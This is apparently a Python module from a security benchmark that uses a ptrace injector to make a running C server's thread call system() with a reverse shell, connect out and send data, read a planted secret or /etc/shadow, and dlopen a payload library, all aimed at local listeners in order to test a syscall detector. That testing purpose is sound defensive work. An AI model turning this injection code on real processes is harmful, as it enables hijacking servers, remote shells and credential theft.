"""Injected attacks for C servers that have no bug to exploit: a small ptrace injector
(inject.c, `sg-inject`) stops one server thread and makes *that thread* call libc
(system, socket/connect/write, open/read, dlopen), then lets it go on. Every call is made
by the server's own thread, which is what a memory-corruption exploit's payload does.
(`gdb -p PID -batch -ex 'call ...'` is the same idea, but gdb 13 cannot restore the
registers of CPUs with AMX.) The stop and resume are part of the trace too: the thread's
interrupted call is restarted, as after any signal; the README says so.
"""

from __future__ import annotations

import shutil
import socket
import struct
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

from benchmarks.scenarios.attacks import (
    CODE_LOADING,
    IN_THREAD,
    SPAWN,
    Attack,
    ExfilListener,
    Outcome,
    Payload,
    ShellCatcher,
    plant_secret,
    reverse_shell_command,
    wait_for,
)

SOURCE = Path(__file__).with_name("inject.c")
TIMEOUT = 30.0


def build_injector(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    out = directory / "sg-inject"
    compiler = shutil.which("gcc") or "cc"
    subprocess.run([compiler, "-O2", "-o", str(out), str(SOURCE), "-ldl"], check=True,
                   capture_output=True)
    return out


class Injector:
    """Runs calls in a thread of another process; see inject.c for the call format."""

    def __init__(self, binary: Path) -> None:
        self.binary = binary

    def call(self, tid: int, calls: list[list[str]]) -> tuple[int, int, list[int]]:
        """Returns (ns before attaching, ns once the thread was stopped and the calls
        began, each call's return value)."""
        begins = time.monotonic_ns()
        process = subprocess.Popen([str(self.binary), str(tid)], stdin=subprocess.PIPE,
                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        assert process.stdin is not None and process.stdout is not None
        process.stdin.write("".join("\t".join(c) + "\n" for c in calls))
        process.stdin.close()
        effective, results = begins, []
        try:
            for line in process.stdout:
                if line.strip() == "attached":
                    effective = time.monotonic_ns()
                elif "=" in line:
                    results.append(int(line.rsplit("=", 1)[1]))
            process.wait(TIMEOUT)
        finally:
            if process.poll() is None:
                process.kill()
                process.wait()
        if process.returncode != 0:
            err = process.stderr.read().strip() if process.stderr else ""
            raise RuntimeError(f"sg-inject {tid} failed: {err}")
        return begins, effective, results


def spawn(injector: Injector, tid: int) -> Outcome:
    """The server's thread runs system("<reverse shell> &")."""
    with ShellCatcher() as catcher:
        command = reverse_shell_command(catcher.port) + " &"
        begins, effective, _ = injector.call(tid, [["system", f"s:{command}"]])
        ok, evidence = catcher.result()
    return Outcome(tid, begins, effective, ok, evidence)


EXFIL_LINE = b"sg-exfil\n"


def _connect_calls(port: int) -> list[list[str]]:
    """socket, connect to 127.0.0.1:port, write a line, close (results 0-3)."""
    address = struct.pack("<H", socket.AF_INET) + struct.pack(">H", port) \
        + socket.inet_aton("127.0.0.1") + bytes(8)
    return [["socket", "i:2", "i:1", "i:0"],
            ["connect", "r:0", f"x:{address.hex()}", "i:16"],
            ["write", "r:0", f"x:{EXFIL_LINE.hex()}", f"i:{len(EXFIL_LINE)}"],
            ["close", "r:0"]]


def _read_calls(secret: Path, first: int) -> list[list[str]]:
    """open the secret, read it, close (the open's result is call `first`)."""
    return [["open", f"s:{secret}", "i:0"],
            ["read", f"r:{first}", "m:4096", "i:4096"],
            ["close", f"r:{first}"]]


def _secret_of(tid: int, secret: Path) -> Path:
    """/etc/shadow when the thread runs as root, else `secret` (the server's own
    credentials, which its user can read)."""
    return Path("/etc/shadow") if _uid(tid) == 0 else secret


def in_thread(injector: Injector, tid: int, secret: Path) -> Outcome:
    """The server's thread connects to 127.0.0.1 and sends a line, then reads a secret."""
    secret = _secret_of(tid, secret)
    with ExfilListener() as listener:
        calls = _connect_calls(listener.port) + _read_calls(secret, 4)
        begins, effective, results = injector.call(tid, calls)
        received = listener.wait()
    n = results[5] if len(results) > 5 else -1
    ok = received.startswith(b"sg-exfil") and n > 0
    return Outcome(tid, begins, effective, ok,
                   f"listener got {len(received)} bytes; read {n} bytes of {secret}")


def read_only(injector: Injector, tid: int, secret: Path) -> Outcome:
    """The server's thread only opens, reads and closes a secret: calls a file server makes
    all the time, so only what it opened can tell (the learned file templates)."""
    secret = _secret_of(tid, secret)
    begins, effective, results = injector.call(tid, _read_calls(secret, 0))
    n = results[1] if len(results) > 1 else -1
    return Outcome(tid, begins, effective, n > 0, f"read {n} bytes of {secret}")


def connect_only(injector: Injector, tid: int) -> Outcome:
    """The server's thread only connects to 127.0.0.1 and sends a line (no file, no child)."""
    with ExfilListener() as listener:
        begins, effective, _ = injector.call(tid, _connect_calls(listener.port))
        received = listener.wait()
    ok = received.startswith(b"sg-exfil")
    return Outcome(tid, begins, effective, ok, f"listener got {len(received)} bytes")


def _uid(tid: int) -> int | None:
    try:
        for line in Path(f"/proc/{tid}/status").read_text().splitlines():
            if line.startswith("Uid:"):
                return int(line.split()[2])  # effective uid
    except (OSError, ValueError, IndexError):
        return None
    return None


def code_loading(injector: Injector, tid: int, payload: Payload) -> Outcome:
    """The server's thread dlopen()s the payload; its constructor runs there."""
    before = payload.loads()
    begins, effective, results = injector.call(tid, [["dlopen", f"s:{payload.path}", "i:2"]])
    ok = wait_for(lambda: payload.loads() > before, 5)
    return Outcome(tid, begins, effective, ok,
                   "payload constructor ran" if ok else f"no mark (dlopen returned {results})")


def injected_attacks(target: Callable[[], int], work: Path, payload: Payload,
                     who: str) -> list[Attack]:
    """The three shapes against a C server, then the in-thread shape's two halves alone (a
    read of a secret only, a connect only: what the learned sets must catch); `target()`
    picks the thread to hit when the attack runs (e.g. a worker's main thread), `who`
    names it for the README."""
    injector = Injector(build_injector(work))
    secret = plant_secret(work)
    return [
        Attack("inject-system-revshell", SPAWN,
               f"{who} made to call system() with a reverse shell (ptrace injection)",
               lambda: spawn(injector, target()), ("execve",)),
        Attack("inject-connect-read", IN_THREAD,
               f"{who} made to connect to 127.0.0.1 and read a secret (ptrace injection)",
               lambda: in_thread(injector, target(), secret), ("connect",)),
        Attack("inject-dlopen", CODE_LOADING,
               f"{who} made to dlopen() a malicious .so (ptrace injection)",
               lambda: code_loading(injector, target(), payload), ("memfd_create",)),
        Attack("inject-read-secret", IN_THREAD,
               f"{who} made to open and read a secret, nothing else (ptrace injection)",
               lambda: read_only(injector, target(), secret), ("openat",)),
        Attack("inject-connect-out", IN_THREAD,
               f"{who} made to connect to 127.0.0.1 and send a line, nothing else "
               "(ptrace injection)",
               lambda: connect_only(injector, target()), ("connect",)),
    ]
